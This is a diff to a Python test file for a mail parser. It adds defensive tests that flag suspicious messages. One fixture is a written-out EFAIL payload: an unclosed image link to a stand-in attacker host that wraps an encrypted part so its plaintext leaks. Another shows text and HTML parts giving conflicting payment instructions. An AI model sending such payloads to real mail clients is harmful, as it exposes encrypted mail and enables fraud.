@@ -8,6 +8,15 @@ from tests.office import Office
 
 HEAD = b"From: clara@people.example\r\nSubject: leak\r\nDate: Mon, 7 Sep 2026 08:00:00 +0000\r\nMessage-ID: <%s@x.example>\r\n"
 TWO_FROM = b"From: a@x.example\r\nFrom: b@x.example\r\nSubject: leak\r\n\r\nx\r\n"
+EFAIL = (
+    b"MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/html\r\n\r\n<p>Hi</p>"
+    b'<img src="http://evil.example/\r\n--b\r\nContent-Type: application/pkcs7-mime; smime-type=enveloped-data\r\n\r\nMIIB\r\n'
+    b'--b\r\nContent-Type: text/html\r\n\r\n<p>the secret">tail</p>\r\n--b--\r\n'
+)
+TWO_TALES = (
+    b"MIME-Version: 1.0\r\nContent-Type: multipart/alternative; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\n"
+    b"Please pay 10 EUR.\r\n--b\r\nContent-Type: text/html\r\n\r\n<style>p {color: red}</style><p>%s</p>\r\n--b--\r\n"
+)
 SMIME = b"MIME-Version: 1.0\r\nContent-Type: application/pkcs7-mime; smime-type=%s; name=smime.p7m\r\n\r\nMIIB\r\n"
 
 
@@ -31,6 +40,11 @@ def noted(office: Office, language: str = "en") -> str:
         (TWO_FROM, "it has two From headers"),
         (HEAD % b"e" + SMIME % b"enveloped-data", "it is encrypted, and Orgo has no key for it"),
         (HEAD % b"s" + SMIME % b"signed-data", "its signature was not verified"),
+        (HEAD % b"m" + EFAIL, "a part of it is encrypted or signed, and was not opened"),
+        (
+            HEAD % b"t" + TWO_TALES % b"Please pay 10,000 EUR to another account now.",
+            "its text and its HTML say different things",
+        ),
         (HEAD.replace(b"2026 08", b"1970 08") % b"d" + b"\r\nx\r\n", "its date is far from the day it came"),
     ],
 )
@@ -42,6 +56,20 @@ def test_the_page_says_what_was_odd(office: Office, raw: bytes, words: str) -> N
 def test_an_ordinary_mail_has_nothing_odd(office: Office) -> None:
     office.mail()
     assert noted(office) == ""
+
+
+def test_the_same_words_in_text_and_html_are_not_odd(office: Office) -> None:
+    link = b'Please <b>pay</b> 10&nbsp;EUR.<a href="https://pay.example/now">Here</a>'
+    assert office.mail(raw=HEAD % b"n" + TWO_TALES % link).outcome == "opened"
+    assert noted(office) == ""
+
+
+def test_no_part_of_a_mail_swallows_the_next(office: Office) -> None:
+    """EFAIL: the address of an image that begins before a part that was encrypted would end after it."""
+    from orgo.message import parse
+
+    html = parse(HEAD % b"m" + EFAIL).html
+    assert "evil.example" not in html and "the secret" in html
 
 
 def test_the_same_message_id_with_other_words_is_a_task_of_its_own_and_is_said(office: Office) -> None:
